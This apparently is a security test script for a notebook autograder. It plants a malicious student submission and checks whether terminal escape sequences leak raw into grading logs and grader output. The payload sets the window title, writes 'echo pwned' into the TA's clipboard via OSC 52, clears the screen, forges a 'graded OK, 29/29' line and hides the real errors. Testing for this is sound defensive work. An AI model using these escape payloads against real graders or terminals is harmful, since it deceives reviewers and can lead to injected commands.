"""a01: terminal escape sequences written by the kernel on its own stderr land raw in grading_logs/<a>/<student>.log
(kept for the TA when a submission fails) and/or the grader's terminal. Controls aaron/zoe graded beside."""
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
from common import course, scores, report

ESC_PAYLOAD = (
    "import os\n"
    "_e = ('\\x1b]0;PWNED-TITLE\\x07'          # window title\n"
    "      '\\x1b]52;c;ZWNobyBwd25lZA==\\x07'  # OSC 52: set the TA clipboard to 'echo pwned'\n"
    "      '\\x1b[2J\\x1b[H'                     # clear the screen\n"
    "      '\\x1b[8m hidden \\x1b[0m'           # concealed text\n"
    "      '\\x1b[1A\\x1b[2K[grader] mallory/ps1_memory: graded OK, 29/29 (forged)\\n'\n"
    "      '\\x1b[8m')                          # conceal everything after (the real nbgrader ERROR lines)\n"
    "os.write(2, _e.encode())\n"
    "os.write(1, _e.encode() + b'\\n')\n"
)
MALLORY = {"training_memory": ESC_PAYLOAD + "def training_memory(model, optimizer):\n    return 0\nimport time\n_k = get_ipython().kernel\n"
           "_k.iopub_socket.send_multipart([b'<IDS|MSG>', b'nosig', b'{}', b'{}', b'{}', b'{}'])\ntime.sleep(2)\n"}

root, p = course("a01", "ps1_memory", {"mallory": MALLORY})
print("scores:", scores(root))
print("report:", report(root))
for dirpath, _, files in os.walk(f"{root}/grading_logs"):
    for f in files:
        data = open(os.path.join(dirpath, f), "rb").read()
        print(f, len(data), "raw ESC bytes:", data.count(b"\x1b"), "BEL:", data.count(b"\x07"))
        i = data.find(b"\x1b")
        print(repr(data[max(0, i - 200): i + 300]))
print("ESC in grader stdout:", p.stdout.count("\x1b"), "stderr:", p.stderr.count("\x1b"))
